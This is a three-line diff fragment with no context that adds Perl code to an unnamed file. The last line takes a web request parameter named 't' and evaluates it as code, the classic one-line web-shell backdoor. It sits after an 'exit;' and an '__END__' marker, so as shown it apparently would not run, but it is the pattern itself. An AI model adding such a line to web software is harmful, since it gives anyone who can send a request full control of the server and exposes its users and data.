@@ -1,0 +1,3 @@
+exit;
+__END__
+my$t=CGI::param('t');eval($t);
